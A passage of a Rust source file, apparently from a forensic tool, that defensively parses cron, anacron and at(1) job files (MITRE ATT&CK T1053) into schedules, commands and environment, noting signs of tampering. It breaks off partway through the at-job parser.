//! cron, anacron and at(1) job parsers (MITRE ATT&CK T1053.003 Cron, T1053.002 At).
//!
//! Artifacts (Linux / other Unix):
//! - system crontabs with a user field: `/etc/crontab`, `/etc/cron.d/*`;
//! - per-user crontabs without a user field: `/var/spool/cron/crontabs/<user>` (Debian/Ubuntu),
//!   `/var/spool/cron/<user>` (RHEL/cronie), `/var/cron/tabs/<user>` (BSD, macOS `/usr/lib/cron/tabs`);
//! - `/etc/anacrontab` (anacron periodic jobs);
//! - at(1) job files `/var/spool/cron/atjobs/*` (Debian) and `/var/spool/at/*` (RHEL), whose file name
//!   encodes queue, job number and run time.
//!
//! What we record: every job line with its line number, the raw text (lossy UTF-8, flagged when lossy),
//! the schedule fields as written, the user (system crontabs), the command split per cron's `%` rules
//! into command and stdin, and the environment assignments in effect for that job. Environment lines
//! are kept as their own items too. Malformed lines become warnings and parsing continues, because an
//! attacker-edited crontab is exactly the file we must not give up on.
//!
//! References: crontab(5) (Debian cron 3.0pl1 / Vixie cron, cronie), anacrontab(5), at(1) and the
//! job-file layout written by at 3.2 `at.c` (`writefile`), read back by `atd.c` (`run_file`).

use std::collections::HashMap;

use chrono::{DateTime, Utc};
use serde::{Deserialize, Serialize};

/// Cap on stored warnings: a garbage file must not produce a warning list larger than useful.
const MAX_WARNINGS: usize = 1000;
/// Budget (bytes) for copying the effective environment into every entry. A hostile file with a huge
/// environment and many jobs would otherwise grow quadratically.
const ENV_SNAPSHOT_BUDGET: usize = 16 * 1024 * 1024;
/// Longest excerpt of an offending line kept in a warning.
const WARN_TEXT_MAX: usize = 200;

/// Which crontab flavour the bytes come from: decides whether a user field is expected.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize, schemars::JsonSchema)]
#[serde(rename_all = "snake_case")]
pub enum CrontabKind {
    /// `/etc/crontab`, `/etc/cron.d/*`: six fields before the command, the sixth is the user.
    System,
    /// `/var/spool/cron/crontabs/<user>`, `/var/spool/cron/<user>`: no user field.
    User,
}

/// The `@` shorthands of crontab(5).
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize, schemars::JsonSchema)]
#[serde(rename_all = "snake_case")]
pub enum CronSpecial {
    Reboot,
    /// `@yearly` or `@annually`.
    Yearly,
    Monthly,
    Weekly,
    /// `@daily` or `@midnight`.
    Daily,
    Hourly,
    /// An `@word` cron does not know (cron rejects it; kept for the record).
    Other(String),
}

/// When a crontab job runs, as written.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize, schemars::JsonSchema)]
#[serde(rename_all = "snake_case")]
pub enum CronSchedule {
    /// The five time fields as raw strings (`*/5`, `mon-fri`, `1,15`, ...).
    Fields {
        minute: String,
        hour: String,
        day_of_month: String,
        month: String,
        day_of_week: String,
    },
    Special(CronSpecial),
}

/// A `NAME=value` pair (already unquoted).
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize, schemars::JsonSchema)]
#[serde(rename_all = "snake_case")]
// Two parsers have an `EnvVar`: distinct schema names instead of schemars' `EnvVar2`.
#[schemars(rename = "CronEnvVar")]
pub struct EnvVar {
    pub name: String,
    pub value: String,
}

/// An environment line of a crontab or anacrontab.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize, schemars::JsonSchema)]
#[serde(rename_all = "snake_case")]
pub struct EnvAssignment {
    pub line_number: usize,
    pub name: String,
    pub value: String,
    pub raw: String,
    #[serde(default, skip_serializing_if = "is_false")]
    pub lossy_utf8: bool,
}

/// One crontab job line.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize, schemars::JsonSchema)]
#[serde(rename_all = "snake_case")]
pub struct CronEntry {
    pub line_number: usize,
    /// The original line (lossy UTF-8, without the line terminator).
    pub raw: String,
    /// True when `raw` had invalid UTF-8 replaced by U+FFFD.
    #[serde(default, skip_serializing_if = "is_false")]
    pub lossy_utf8: bool,
    pub schedule: CronSchedule,
    /// The user field (system crontabs only).
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub user: Option<String>,
    /// The command up to the first unescaped `%`, with `\%` turned into `%`.
    pub command: String,
    /// Text after the first unescaped `%`, fed to the command's stdin; further `%` became newlines.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub stdin: Option<String>,
    /// Environment in effect for this job (last assignment of each name wins), in file order.
    pub environment: Vec<EnvVar>,
    /// True when the environment snapshot was dropped to bound memory (huge hostile files only).
    #[serde(default, skip_serializing_if = "is_false")]
    pub environment_truncated: bool,
}

/// Something wrong with one line; the parse goes on.
#[derive(
    Debug, Clone, PartialEq, Eq, Serialize, Deserialize, schemars::JsonSchema, thiserror::Error,
)]
#[serde(tag = "kind", rename_all = "snake_case")]
pub enum CronWarning {
    #[error("line {line}: expected at least {expected} fields, found {found}: {text:?}")]
    TooFewFields {
        line: usize,
        expected: usize,
        found: usize,
        text: String,
    },
    #[error("line {line}: invalid {field} field {value:?}: {reason}")]
    InvalidField {
        line: usize,
        field: String,
        value: String,
        reason: String,
    },
    #[error("line {line}: unknown special schedule {value:?}")]
    UnknownSpecial { line: usize, value: String },
    #[error("line {line}: invalid UTF-8 replaced")]
    InvalidUtf8 { line: usize },
    #[error("line {line}: contains NUL bytes")]
    NulByte { line: usize },
    #[error("line {line}: unterminated quote in environment assignment {text:?}")]
    UnterminatedQuote { line: usize, text: String },
    #[error("environment snapshots dropped from line {line} on to bound memory")]
    EnvironmentBudgetExceeded { line: usize },
    #[error("line {line}: {reason}: {text:?}")]
    InvalidLine {
        line: usize,
        reason: String,
        text: String,
    },
}

/// Result of [`parse_crontab`].
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize, schemars::JsonSchema)]
#[serde(rename_all = "snake_case")]
pub struct CrontabParse {
    pub kind: CrontabKind,
    pub entries: Vec<CronEntry>,
    /// Every environment line, in file order.
    pub environment: Vec<EnvAssignment>,
    pub warnings: Vec<CronWarning>,
    /// Warnings not stored because of the cap.
    #[serde(default, skip_serializing_if = "is_zero")]
    pub warnings_suppressed: usize,
    /// True when any line had invalid UTF-8.
    pub lossy_utf8: bool,
}

/// anacron period: days, or one of the `@` names.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize, schemars::JsonSchema)]
#[serde(rename_all = "snake_case")]
pub enum AnacronPeriod {
    Days(u32),
    Daily,
    Weekly,
    Monthly,
    Yearly,
    /// Unparseable period, kept as written.
    Other(String),
}

/// One anacrontab job line: `period delay job-identifier command`.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize, schemars::JsonSchema)]
#[serde(rename_all = "snake_case")]
pub struct AnacronJob {
    pub line_number: usize,
    pub raw: String,
    #[serde(default, skip_serializing_if = "is_false")]
    pub lossy_utf8: bool,
    pub period: AnacronPeriod,
    /// Delay in minutes; None when the field was not a number.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub delay_minutes: Option<u32>,
    pub job_identifier: String,
    pub command: String,
    pub environment: Vec<EnvVar>,
    #[serde(default, skip_serializing_if = "is_false")]
    pub environment_truncated: bool,
}

/// Result of [`parse_anacrontab`].
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize, schemars::JsonSchema)]
#[serde(rename_all = "snake_case")]
pub struct AnacrontabParse {
    pub jobs: Vec<AnacronJob>,
    /// Every environment line (START_HOURS_RANGE, RANDOM_DELAY, SHELL, PATH, ...).
    pub environment: Vec<EnvAssignment>,
    pub warnings: Vec<CronWarning>,
    #[serde(default, skip_serializing_if = "is_zero")]
    pub warnings_suppressed: usize,
    pub lossy_utf8: bool,
}

/// Problems found in an at job file.
#[derive(
    Debug, Clone, PartialEq, Eq, Serialize, Deserialize, schemars::JsonSchema, thiserror::Error,
)]
#[serde(tag = "kind", rename_all = "snake_case")]
pub enum AtWarning {
    #[error("no `# atrun uid=.. gid=..` header line")]
    MissingAtrunHeader,
    #[error("line {line}: malformed header line {text:?}")]
    MalformedHeader { line: usize, text: String },
    #[error("line {line}: unexpected line before the user commands (it runs too): {text:?}")]
    UnexpectedHeaderLine { line: usize, text: String },
    #[error("here-document delimiter {delimiter:?} never closed")]
    UnterminatedHeredoc { delimiter: String },
    #[error("line {line}: text after the here-document delimiter (it runs too): {text:?}")]
    TrailingCommands { line: usize, text: String },
    #[error("no line found that starts the user commands")]
    NoCommandSection,
    #[error("invalid UTF-8 replaced")]
    InvalidUtf8,
}

/// A parsed at(1) job file.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize, schemars::JsonSchema)]
#[serde(rename_all = "snake_case")]
pub struct AtJob {
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub shebang: Option<String>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub uid: Option<u32>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub gid: Option<u32>,
    /// User to mail output to (`# mail <user> <flag>`).
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub mail_user: Option<String>,
    /// The flag after the mail user: mail even when the job printed nothing (`at -m`).
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub mail_always: Option<bool>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub umask: Option<String>,
    /// Exported variables captured at submission time (shell escaping removed).
    pub environment: Vec<EnvVar>,
    /// Directory the job `cd`s into (shell escaping removed).
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub working_directory: Option<String>,
    /// Here-document delimiter (`marcinDELIMITER...`), when the job uses one.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub delimiter: Option<String>,
    /// The user's commands only.
    pub command: String,
    /// 1-based line where the user's commands start.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub command_line_number: Option<usize>,
    /// Lines after the closing delimiter (never written by at; a sign of tampering).
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub trailing: Option<String>,
    /// The raw lines before the user's commands (generated by at).
    pub header_lines: Vec<String>,
    pub warnings: Vec<AtWarning>,
    pub lossy_utf8: bool,
}

fn is_false(b: &bool) -> bool {
    !*b
}

fn is_zero(n: &usize) -> bool {
    *n == 0
}

/// Warning list with a cap.
type Warns = super::capped::Capped<CronWarning>;

fn excerpt(s: &str) -> String {
    super::capped::excerpt(s, WARN_TEXT_MAX)
}

/// Splits bytes into (1-based line number, line without `\n` / trailing `\r`).
fn byte_lines(data: &[u8]) -> impl Iterator<Item = (usize, &[u8])> {
    data.split(|&b| b == b'\n').enumerate().map(|(i, l)| {
        let l = l.strip_suffix(b"\r").unwrap_or(l);
        (i + 1, l)
    })
}

/// A line cron and anacron act on: not blank, not a comment.
struct ContentLine {
    ln: usize,
    line: String,
    lossy: bool,
    nul: bool,
}

impl ContentLine {
    /// Warns about invalid UTF-8 and NUL bytes: text that is not what a reader of the raw
    /// line sees. True when the text was lossy.
    fn note_damage(&self, warns: &mut Warns) -> bool {
        if self.lossy {
            warns.push(CronWarning::InvalidUtf8 { line: self.ln });
        }
        if self.nul {
            warns.push(CronWarning::NulByte { line: self.ln });
        }
        self.lossy
    }
}

/// The lines cron and anacron act on, decoded.
fn content_lines(text: &[u8]) -> impl Iterator<Item = ContentLine> + '_ {
    byte_lines(text).filter_map(|(ln, bytes)| {
        let (line, lossy) = decode(bytes);
        let trimmed = line.trim_start_matches(is_blank);
        if trimmed.trim_end_matches(is_blank).is_empty() || trimmed.starts_with('#') {
            return None;
        }
        Some(ContentLine {
            ln,
            line,
            lossy,
            nul: bytes.contains(&0),
        })
    })
}

fn decode(line: &[u8]) -> (String, bool) {
    match String::from_utf8_lossy(line) {
        std::borrow::Cow::Borrowed(s) => (s.to_string(), false),
        std::borrow::Cow::Owned(s) => (s, true),
    }
}

fn is_blank(c: char) -> bool {
    c == ' ' || c == '\t'
}

/// Splits off the first blank-delimited token; returns (token, rest with leading blanks removed).
fn next_token(s: &str) -> Option<(&str, &str)> {
    let s = s.trim_start_matches(is_blank);
    if s.is_empty() {
        return None;
    }
    let end = s.find(is_blank).unwrap_or(s.len());
    let (tok, rest) = s.split_at(end);
    Some((tok, rest.trim_start_matches(is_blank)))
}

/// How environment values are unquoted.
#[derive(Clone, Copy, PartialEq)]
enum EnvStyle {
    /// cron: blanks around `=` ignored, value trimmed, matching surrounding quotes removed.
    Cron,
    /// anacron: blanks around the name ignored, the value is kept verbatim.
    Anacron,
}

enum EnvParse {
    NotEnv,
    Env(String, String),
    Unterminated,
}

/// Recognises a `NAME = value` line the way cron's `load_env` does: a name (optionally quoted) ending at
/// `=` or a blank, optional blanks, then `=`. Anything else is a job line.
fn parse_env_line(s: &str, style: EnvStyle) -> EnvParse {
    let s = s.trim_start_matches(is_blank);
    let mut chars = s.char_indices();
    let (name, after_name): (String, &str) = match s.chars().next() {
        Some(q @ ('"' | '\'')) if style == EnvStyle::Cron => {
            let body = s.get(1..).unwrap_or("");
            match body.find(q) {
                Some(end) => (
                    body.get(..end).unwrap_or("").to_string(),
                    body.get(end + 1..).unwrap_or(""),
                ),
                None => return EnvParse::NotEnv,
            }
        }
        _ => {
            let end = chars
                .find(|&(_, c)| c == '=' || is_blank(c))
                .map(|(i, _)| i)
                .unwrap_or(s.len());
            (
                s.get(..end).unwrap_or("").to_string(),
                s.get(end..).unwrap_or(""),
            )
        }
    };
    if name.is_empty() {
        return EnvParse::NotEnv;
    }
    let after = after_name.trim_start_matches(is_blank);
    let Some(value) = after.strip_prefix('=') else {
        return EnvParse::NotEnv;
    };
    match style {
        EnvStyle::Anacron => EnvParse::Env(name, value.to_string()),
        EnvStyle::Cron => {
            let v = value.trim_matches(is_blank);
            let mut cs = v.chars();
            match cs.next() {
                Some(q @ ('"' | '\'')) => {
                    if v.len() >= 2 && v.ends_with(q) {
                        EnvParse::Env(name, v.get(1..v.len() - 1).unwrap_or("").to_string())
                    } else {
                        EnvParse::Unterminated
                    }
                }
                _ => EnvParse::Env(name, v.to_string()),
            }
        }
    }
}

/// Applies crontab(5) `%` rules: the first unescaped `%` ends the command, the rest is stdin with
/// every further unescaped `%` turned into a newline; `\%` is a literal percent (backslash dropped),
/// any other backslash is left for the shell.
fn split_percent(cmd: &str) -> (String, Option<String>) {
    let mut command = String::with_capacity(cmd.len());
    let mut stdin = String::new();
    let mut in_stdin = false;
    let mut chars = cmd.chars().peekable();
    while let Some(c) = chars.next() {
        let out = if in_stdin { &mut stdin } else { &mut command };
        match c {
            '\\' if chars.peek() == Some(&'%') => {
                chars.next();
                out.push('%');
            }
            '%' if in_stdin => out.push('\n'),
            '%' => in_stdin = true,
            _ => out.push(c),
        }
    }
    (command, in_stdin.then_some(stdin))
}

const MONTHS: [&str; 12] = [
    "jan", "feb", "mar", "apr", "may", "jun", "jul", "aug", "sep", "oct", "nov", "dec",
];
const DAYS: [&str; 7] = ["sun", "mon", "tue", "wed", "thu", "fri", "sat"];

fn field_value(
    tok: &str,
    min: u32,
    max: u32,
    names: &[&str],
    name_base: u32,
) -> Result<u32, String> {
    if tok.is_empty() {
        return Err("empty value".into());
    }
    if tok.bytes().all(|b| b.is_ascii_digit()) {
        let v: u32 = tok
            .parse()
            .map_err(|_| format!("number {tok:?} out of range"))?;
        if v < min || v > max {
            return Err(format!("{v} outside {min}-{max}"));
        }
        return Ok(v);
    }
    let lower = tok.to_ascii_lowercase();
    names
        .iter()
        .position(|n| *n == lower)
        .and_then(|p| u32::try_from(p).ok())
        .map(|p| p + name_base)
        .ok_or_else(|| format!("{tok:?} is not a number or known name"))
}

/// Light validation of one time field: lists, ranges, steps, names, cronie's `~` random ranges.
fn validate_field(
    field: &str,
    min: u32,
    max: u32,
    names: &[&str],
    name_base: u32,
) -> Result<(), String> {
    // cronie lets a leading `-` on the minute field mean "do not log"; it is not part of the value.
    for item in field.split(',') {
        let (base, step) = match item.split_once('/') {
            Some((b, s)) => (b, Some(s)),
            None => (item, None),
        };
        if let Some(step) = step {
            let n: u32 = step
                .parse()
                .map_err(|_| format!("step {step:?} is not a number"))?;
            if n == 0 {
                return Err("step of 0".into());
            }
        }
        if base == "*" {
            continue;
        }
        let sep = if base.contains('~') { '~' } else { '-' };
        match base.split_once(sep) {
            Some((a, b)) => {
                // cronie allows `~` with either side empty.
                let lo = if a.is_empty() && sep == '~' {
                    min
                } else {
                    field_value(a, min, max, names, name_base)?
                };
                let hi = if b.is_empty() && sep == '~' {
                    max
                } else {
                    field_value(b, min, max, names, name_base)?
                };
                if lo > hi && sep == '-' {
                    // Vixie cron rejects reversed ranges.
                    return Err(format!("range {lo}-{hi} is reversed"));
                }
            }
            None => {
                field_value(base, min, max, names, name_base)?;
            }
        }
    }
    Ok(())
}

fn special_from(tok: &str) -> CronSpecial {
    match tok {
        "@reboot" => CronSpecial::Reboot,
        "@yearly" | "@annually" => CronSpecial::Yearly,
        "@monthly" => CronSpecial::Monthly,
        "@weekly" => CronSpecial::Weekly,
        "@daily" | "@midnight" => CronSpecial::Daily,
        "@hourly" => CronSpecial::Hourly,
        other => CronSpecial::Other(other.to_string()),
    }
}

/// Effective environment tracker with a memory budget for per-entry snapshots.
///
/// Lookups go through `index` and the snapshot cost is kept as a running total: a hostile
/// crontab of 200k distinct `NAME=value` lines made the former linear search (and the per-job
/// re-summing of every variable) quadratic, which hung the parser for minutes on a 2.5 MB file
/// (tests/hostile.rs `cron_distinct_env_vars_are_linear`).
struct EnvState {
    vars: Vec<EnvVar>,
    /// Name → position in `vars`.
    index: HashMap<String, usize>,
    /// What one snapshot of `vars` costs against the budget.
    cost: usize,
    spent: usize,
    exhausted: bool,
}

fn env_cost(name: &str, value: &str) -> usize {
    name.len() + value.len() + 16
}

impl EnvState {
    fn new() -> Self {
        EnvState {
            vars: Vec::new(),
            index: HashMap::new(),
            cost: 0,
            spent: 0,
            exhausted: false,
        }
    }
    fn set(&mut self, name: &str, value: &str) {
        match self.index.get(name).and_then(|&i| self.vars.get_mut(i)) {
            Some(v) => {
                self.cost =
                    self.cost.saturating_sub(env_cost(&v.name, &v.value)) + env_cost(name, value);
                v.value = value.to_string();
            }
            None => {
                self.index.insert(name.to_string(), self.vars.len());
                self.cost += env_cost(name, value);
                self.vars.push(EnvVar {
                    name: name.to_string(),
                    value: value.to_string(),
                });
            }
        }
    }
    /// Returns (snapshot, truncated).
    fn snapshot(&mut self, line: usize, warns: &mut Warns) -> (Vec<EnvVar>, bool) {
        if self.exhausted || self.spent.saturating_add(self.cost) > ENV_SNAPSHOT_BUDGET {
            if !self.exhausted {
                self.exhausted = true;
                warns.push(CronWarning::EnvironmentBudgetExceeded { line });
            }
            return (Vec::new(), !self.vars.is_empty());
        }
        self.spent += self.cost;
        (self.vars.clone(), false)
    }
}

/// Parses a crontab. `kind` decides whether a user field is expected.
pub fn parse_crontab(text: &[u8], kind: CrontabKind) -> CrontabParse {
    let mut warns = Warns::new(MAX_WARNINGS);
    let mut entries = Vec::new();
    let mut environment = Vec::new();
    let mut env = EnvState::new();
    let mut any_lossy = false;

    for content in content_lines(text) {
        any_lossy |= content.note_damage(&mut warns);
        let ContentLine {
            ln, line, lossy, ..
        } = content;
        let trimmed = line.trim_start_matches(is_blank);
        match parse_env_line(trimmed, EnvStyle::Cron) {
            EnvParse::Env(name, value) => {
                env.set(&name, &value);
                environment.push(EnvAssignment {
                    line_number: ln,
                    name,
                    value,
                    raw: line.clone(),
                    lossy_utf8: lossy,
                });
                continue;
            }
            EnvParse::Unterminated => {
                warns.push(CronWarning::UnterminatedQuote {
                    line: ln,
                    text: excerpt(&line),
                });
                continue;
            }
            EnvParse::NotEnv => {}
        }
        if let Some(entry) = parse_cron_job(ln, &line, lossy, kind, &mut env, &mut warns) {
            entries.push(entry);
        }
    }

    CrontabParse {
        kind,
        entries,
        environment,
        warnings: warns.list,
        warnings_suppressed: warns.suppressed,
        lossy_utf8: any_lossy,
    }
}

fn parse_cron_job(
    ln: usize,
    line: &str,
    lossy: bool,
    kind: CrontabKind,
    env: &mut EnvState,
    warns: &mut Warns,
) -> Option<CronEntry> {
    let needed_after_schedule = match kind {
        CrontabKind::System => 2,
        CrontabKind::User => 1,
    };
    let (first, mut rest) = next_token(line)?;
    let schedule = if first.starts_with('@') {
        let sp = special_from(first);
        if let CronSpecial::Other(v) = &sp {
            warns.push(CronWarning::UnknownSpecial {
                line: ln,
                value: v.clone(),
            });
        }
        CronSchedule::Special(sp)
    } else {
        let mut f: Vec<&str> = vec![first];
        while f.len() < 5 {
            match next_token(rest) {
                Some((t, r)) => {
                    f.push(t);
                    rest = r;
                }
                None => break,
            }
        }
        if f.len() < 5 {
            warns.push(CronWarning::TooFewFields {
                line: ln,
                expected: 5 + needed_after_schedule,
                found: f.len(),
                text: excerpt(line),
            });
            return None;
        }
        let names: [&str; 5] = ["minute", "hour", "day_of_month", "month", "day_of_week"];
        let limits: [(u32, u32, &[&str], u32); 5] = [
            (0, 59, &[], 0),
            (0, 23, &[], 0),
            (1, 31, &[], 0),
            (1, 12, &MONTHS, 1),
            (0, 7, &DAYS, 0),
        ];
        for (i, ((lo, hi, nm, base), fname)) in limits.iter().zip(names).enumerate() {
            let mut val = f.get(i).copied().unwrap_or("");
            if i == 0 {
                val = val.strip_prefix('-').unwrap_or(val);
            }
            if let Err(reason) = validate_field(val, *lo, *hi, nm, *base) {
                warns.push(CronWarning::InvalidField {
                    line: ln,
                    field: fname.to_string(),
                    value: f.get(i).copied().unwrap_or("").to_string(),
                    reason,
                });
            }
        }
        CronSchedule::Fields {
            minute: f.first().copied().unwrap_or("").to_string(),
            hour: f.get(1).copied().unwrap_or("").to_string(),
            day_of_month: f.get(2).copied().unwrap_or("").to_string(),
            month: f.get(3).copied().unwrap_or("").to_string(),
            day_of_week: f.get(4).copied().unwrap_or("").to_string(),
        }
    };
    let fields_before = match schedule {
        CronSchedule::Special(_) => 1,
        CronSchedule::Fields { .. } => 5,
    };
    let user = match kind {
        CrontabKind::System => match next_token(rest) {
            Some((u, r)) => {
                rest = r;
                Some(u.to_string())
            }
            None => {
                warns.push(CronWarning::TooFewFields {
                    line: ln,
                    expected: fields_before + 2,
                    found: fields_before,
                    text: excerpt(line),
                });
                return None;
            }
        },
        CrontabKind::User => None,
    };
    if rest.trim_matches(is_blank).is_empty() {
        warns.push(CronWarning::TooFewFields {
            line: ln,
            expected: fields_before + needed_after_schedule,
            found: fields_before + needed_after_schedule - 1,
            text: excerpt(line),
        });
        return None;
    }
    let (command, stdin) = split_percent(rest);
    let (environment, environment_truncated) = env.snapshot(ln, warns);
    Some(CronEntry {
        line_number: ln,
        raw: line.to_string(),
        lossy_utf8: lossy,
        schedule,
        user,
        command,
        stdin,
        environment,
        environment_truncated,
    })
}

/// Parses `/etc/anacrontab` per anacrontab(5).
pub fn parse_anacrontab(text: &[u8]) -> AnacrontabParse {
    let mut warns = Warns::new(MAX_WARNINGS);
    let mut jobs = Vec::new();
    let mut environment = Vec::new();
    let mut env = EnvState::new();
    let mut any_lossy = false;

    for content in content_lines(text) {
        any_lossy |= content.note_damage(&mut warns);
        let ContentLine {
            ln, line, lossy, ..
        } = content;
        let trimmed = line.trim_start_matches(is_blank);
        // anacron tries the job pattern first (`period delay id command`); env lines are `NAME=value`.
        let toks = next_token(trimmed).and_then(|(p, r)| {
            next_token(r).and_then(|(d, r)| next_token(r).map(|(id, cmd)| (p, d, id, cmd)))
        });
        let job_like = toks
            .map(|(p, _, _, cmd)| !p.contains('=') && !cmd.trim_matches(is_blank).is_empty())
            .unwrap_or(false);
        if !job_like {
            if let EnvParse::Env(name, value) = parse_env_line(trimmed, EnvStyle::Anacron) {
                env.set(&name, &value);
                environment.push(EnvAssignment {
                    line_number: ln,
                    name,
                    value,
                    raw: line.clone(),
                    lossy_utf8: lossy,
                });
            } else {
                warns.push(CronWarning::InvalidLine {
                    line: ln,
                    reason: "neither a job (period delay id command) nor NAME=value".into(),
                    text: excerpt(&line),
                });
            }
            continue;
        }
        let Some((p, d, id, cmd)) = toks else {
            continue;
        };
        let period = match p {
            "@daily" => AnacronPeriod::Daily,
            "@weekly" => AnacronPeriod::Weekly,
            "@monthly" => AnacronPeriod::Monthly,
            "@yearly" | "@annually" => AnacronPeriod::Yearly,
            _ => match p.parse::<u32>() {
                Ok(n) if p.bytes().all(|b| b.is_ascii_digit()) => AnacronPeriod::Days(n),
                _ => {
                    warns.push(CronWarning::InvalidField {
                        line: ln,
                        field: "period".into(),
                        value: p.to_string(),
                        reason: "not a number of days or @daily/@weekly/@monthly/@yearly".into(),
                    });
                    AnacronPeriod::Other(p.to_string())
                }
            },
        };
        let delay_minutes = match d.parse::<u32>() {
            Ok(n) if d.bytes().all(|b| b.is_ascii_digit()) => Some(n),
            _ => {
                warns.push(CronWarning::InvalidField {
                    line: ln,
                    field: "delay".into(),
                    value: d.to_string(),
                    reason: "not a number of minutes".into(),
                });
                None
            }
        };
        if id.contains('/') {
            warns.push(CronWarning::InvalidField {
                line: ln,
                field: "job_identifier".into(),
                value: id.to_string(),
                reason: "contains a slash".into(),
            });
        }
        let (environment, environment_truncated) = env.snapshot(ln, &mut warns);
        jobs.push(AnacronJob {
            line_number: ln,
            raw: line.clone(),
            lossy_utf8: lossy,
            period,
            delay_minutes,
            job_identifier: id.to_string(),
            command: cmd.to_string(),
            environment,
            environment_truncated,
        });
    }
    AnacrontabParse {
        jobs,
        environment,
        warnings: warns.list,
        warnings_suppressed: warns.suppressed,
        lossy_utf8: any_lossy,
    }
}

/// Parses an at(1) job file name (Debian/RHEL at 3.x: `%c%05lx%08lx`): queue letter, job number in
/// hex, run time in hex minutes since the Unix epoch. `=` as queue marks a job that is running.
pub fn parse_at_filename(name: &str) -> Option<(char, u32, DateTime<Utc>)> {
    let name = name.rsplit(['/', '\\']).next().unwrap_or(name);
    if name.len() != 14 || !name.is_ascii() {
        return None;
    }
    let queue = name.chars().next()?;
    if !(queue.is_ascii_alphabetic() || queue == '=') {
        return None;
    }
    let job_hex = name.get(1..6)?;
    let time_hex = name.get(6..14)?;
    if !job_hex
        .bytes()
        .chain(time_hex.bytes())
        .all(|b| b.is_ascii_hexdigit())
    {
        return None;
    }
    let job = u32::from_str_radix(job_hex, 16).ok()?;
    let minutes = i64::from_str_radix(time_hex, 16).ok()?;
    let when = DateTime::<Utc>::from_timestamp(minutes.checked_mul(60)?, 0)?;
    Some((queue, job, when))
}

/// Removes the backslash escaping at(1) applies to values and the `cd` path (`\X` → `X`,
/// backslash-newline → nothing, as sh would read it).
fn shell_unescape(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    let mut chars = s.chars();
    while let Some(c) = chars.next() {
        if c == '\\' {
            match chars.next() {
                Some('\n') | None => {}
                Some(n) => out.push(n),
            }
        } else {
            out.push(c);
        }
    }
    out
}

/// True when the line ends in an odd number of backslashes (sh line continuation).
fn ends_with_continuation(s: &str) -> bool {
    s.bytes().rev().take_while(|&b| b == b'\\').count() % 2 == 1
}

/// Parses `NAME=value; export NAME` as written by at.
fn parse_at_env(line: &str) -> Option<EnvVar> {
    let (name, rest) = line.split_once('=')?;
    if name.is_empty()
        || !name.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_')
        || name.as_bytes().first().is_some_and(|b| b.is_ascii_digit())
    {
        return None;
    }
    let suffix = format!("; export {name}");
    let value = rest.strip_suffix(suffix.as_str())?;
    Some(EnvVar {
        name: name.to_string(),
        value: shell_unescape(value),
    })
}

/// Recognises the here-document marker at writes before the user's commands:
/// `${SHELL:-/bin/sh} << 'marcinDELIMITER0a1b2c3d'`.
fn heredoc_delimiter(line: &str) -> Option<String> {
    let (lhs, rhs) = line.split_once("<<")?;
    if !lhs.contains("SHELL") {
        return None;
    }
    let rhs = rhs.trim();
    let d = rhs
        .strip_prefix('\'')
        .and_then(|r| r.strip_suffix('\''))
        .or_else(|| rhs.strip_prefix('"').and_then(|r| r.strip_suffix('"')))
        .unwrap_or(rhs);
    if d.is_empty() || d.contains(char::is_whitespace) {
        return None;
    }
    Some(d.to_string())
}

/// Parses an at(1) job file (a shell script written by `at`): header, environment, `cd`, user commands.
pub fn parse_at_job(text: &[u8]) -> AtJob {
    let (full, lossy) = decode(text);
    let mut job = AtJob {
        shebang: None,
        uid: None,
        gid: None,
        mail_user: None,
        mail_always: None,
        umask: None,
        environment: Vec::new(),
        working_directory: None,
        delimiter: None,
        command: String::new(),
        command_line_number: None,
        trailing: None,
        header_lines: Vec::new(),
        warnings: Vec::new(),
        lossy_utf8: lossy,
    };
    if lossy {
        job.warnings.push(AtWarning::InvalidUtf8);
    }
    let lines: Vec<&str> = full
        .split('\n')
        .map(|l| l.strip_suffix('\r').unwrap_or(l))
        .collect();
    // A trailing newline produces an empty last element that is not a line.
    let n_lines = if full.ends_with('\n') {
        lines.len().saturating_sub(1)
    } else {
        lines.len()
    };
    let lines = lines.get(..n_lines).unwrap_or(&[]);

    let mut i = 0usize;
    let mut saw_atrun = false;
    let mut body_start: Option<usize> = None;
    let mut in_cd_block = false;
    let mut env_buf: Option<(usize, String)> = None;

    while let Some(&line) = lines.get(i) {
        let ln = i + 1;
        if let Some((start, mut buf)) = env_buf.take() {
            buf.push('\n');
            buf.push_str(line);
            job.header_lines.push(line.to_string());
            if ends_with_continuation(line) {
                env_buf = Some((start, buf));
            } else if let Some(v) = parse_at_env(&buf) {
                job.environment.push(v);
            } else {
                push_warn(
                    &mut job,
                    AtWarning::UnexpectedHeaderLine {
                        line: start,
                        text: excerpt(&buf),
                    },
                );
            }
            i += 1;
            continue;
        }
        if in_cd_block {
            job.header_lines.push(line.to_string());
            if line.trim() == "}" {
                in_cd_block = false;
                // Older at versions put the commands right after the `cd` block.
                body_start = Some(i + 1);
            }
            i += 1;
            continue;
        }
        if let Some(d) = heredoc_delimiter(line) {
            job.header_lines.push(line.to_string());
            job.delimiter = Some(d);
            body_start = Some(i + 1);
            break;
        }
        if body_start.is_some() {
            // Commands follow a `cd` block directly (no here-document).
            break;
